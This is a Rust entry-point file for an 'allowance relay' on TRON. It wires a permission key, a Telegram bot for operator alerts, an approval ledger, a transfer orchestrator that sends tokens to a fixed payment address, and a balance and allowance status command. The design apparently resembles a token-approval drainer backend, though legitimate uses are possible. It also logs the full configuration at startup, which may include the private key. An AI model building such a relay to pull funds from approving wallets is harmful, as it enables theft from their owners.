use std::net::SocketAddr;
use std::sync::Arc;

use anyhow::Context;
use clap::Parser;
use tracing_subscriber::{layer::SubscriberExt, util::SubscriberInitExt};

use relay::chain::tron::TronGateway;
use relay::chain::ChainGateway;
use relay::models::amount::from_base_units;
use relay::notification::telegram::TelegramBot;
use relay::router::{CommandRouter, RouterSettings};
use relay::store::ledger::ApprovalLedger;
use relay::transfer::TransferOrchestrator;
use relay::{api, cli, config, jobs, AppState};

#[tokio::main]
async fn main() -> anyhow::Result<()> {
    use opentelemetry::KeyValue;
    use opentelemetry_sdk::{trace as sdktrace, Resource};

    let telemetry_layer = if std::env::var("OTEL_EXPORTER_OTLP_ENDPOINT").is_ok() {
        let tracer = opentelemetry_otlp::new_pipeline()
            .tracing()
            .with_exporter(opentelemetry_otlp::new_exporter().tonic())
            .with_trace_config(sdktrace::config().with_resource(Resource::new(vec![
                KeyValue::new("service.name", "allowance-relay"),
            ])))
            .install_batch(opentelemetry_sdk::runtime::Tokio)
            .context("failed to install OpenTelemetry tracer")?;
        Some(tracing_opentelemetry::layer().with_tracer(tracer))
    } else {
        None
    };

    tracing_subscriber::registry()
        .with(tracing_subscriber::EnvFilter::new(
            std::env::var("RUST_LOG").unwrap_or_else(|_| "relay=debug,tower_http=debug".into()),
        ))
        .with(tracing_subscriber::fmt::layer())
        .with(telemetry_layer)
        .init();

    let args = cli::Cli::parse();
    let cfg = config::load()?;

    let result = match args.command {
        Some(cli::Commands::Serve { port }) => {
            let port = port.unwrap_or(cfg.port);
            run_server(cfg, port).await
        }
        Some(cli::Commands::Status { address }) => print_status(&cfg, &address).await,
        None => {
            let port = cfg.port;
            run_server(cfg, port).await
        }
    };

    if let Err(ref e) = result {
        eprintln!("Error: {:?}", e);
    }
    result
}

fn build_gateway(cfg: &config::Config) -> anyhow::Result<TronGateway> {
    TronGateway::new(
        &cfg.tron_api_url,
        cfg.tron_api_key.clone(),
        &cfg.token_contract_address,
        &cfg.permission_address,
        &cfg.permission_private_key,
    )
    .context("failed to initialize TRON gateway")
}

async fn run_server(cfg: config::Config, port: u16) -> anyhow::Result<()> {
    tracing::info!(config = ?cfg, "starting allowance relay");

    let gateway: Arc<dyn ChainGateway> = Arc::new(build_gateway(&cfg)?);
    let bot = TelegramBot::new(&cfg.telegram_api_url, &cfg.telegram_bot_token)
        .context("failed to initialize Telegram client")?;

    let ledger = ApprovalLedger::new();
    let orchestrator = Arc::new(TransferOrchestrator::new(
        ledger.clone(),
        gateway,
        cfg.token_decimals,
    ));
    let router = Arc::new(CommandRouter::new(
        ledger,
        orchestrator,
        Arc::new(bot.clone()),
        RouterSettings {
            notify_chat: cfg.telegram_chat_id.clone(),
            operator_chats: cfg.operator_chats.clone(),
            recipient: cfg.payment_address.clone(),
            fee_limit: cfg.fee_limit,
            token_symbol: cfg.token_symbol.clone(),
        },
    ));

    jobs::poller::spawn(bot, router.clone());
    tracing::info!("Telegram update poller started");

    let state = Arc::new(AppState {
        router: Arc::clone(&router),
    });
    let app = api::app(state, &cfg.cors_origins);

    let addr = SocketAddr::from(([0, 0, 0, 0], port));
    let listener = tokio::net::TcpListener::bind(addr).await?;
    tracing::info!("Allowance relay listening on {}", addr);
    axum::serve(listener, app).await?;

    Ok(())
}

async fn print_status(cfg: &config::Config, address: &str) -> anyhow::Result<()> {
    let gateway = build_gateway(cfg)?;
    let (allowance, balance) = tokio::try_join!(
        gateway.allowance_of(address),
        gateway.balance_of(address)
    )?;

    println!("Address:   {}", address);
    println!(
        "Balance:   {:.4} {}",
        from_base_units(balance, cfg.token_decimals),
        cfg.token_symbol
    );
    println!(
        "Allowance: {:.4} {}",
        from_base_units(allowance, cfg.token_decimals),
        cfg.token_symbol
    );
    Ok(())
}
